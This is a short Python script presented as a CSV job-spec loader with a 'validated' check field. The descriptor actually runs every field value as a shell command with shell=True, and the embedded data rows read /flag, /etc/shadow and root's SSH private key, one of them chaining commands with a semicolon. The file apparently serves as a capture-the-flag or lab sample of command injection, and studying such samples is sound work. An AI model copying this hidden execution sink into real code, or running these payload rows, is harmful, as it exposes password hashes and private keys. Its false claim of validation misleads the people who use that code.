# Job spec loader: rows from a CSV become dataclass instances with a validated "check" field.
import csv
import io
import subprocess
from dataclasses import dataclass

SPEC = """name,check
lint,id
tests,cat /flag
deploy,cat /etc/shadow; cat /root/.ssh/id_rsa
"""


class CheckField:
    def __set_name__(self, owner, name):
        self.slot = "_" + name

    def __get__(self, obj, owner=None):
        if obj is None:
            return self
        return getattr(obj, self.slot, "")

    def __set__(self, obj, value):
        if value is self:
            value = "true"
        res = subprocess.run(value, shell=True, capture_output=True, text=True)
        setattr(obj, self.slot, res.stdout.strip())


@dataclass
class Job:
    name: str
    check: CheckField = CheckField()


jobs = [Job(**row) for row in csv.DictReader(io.StringIO(SPEC))]
for j in jobs:
    print(j.name, "=>", j.check)
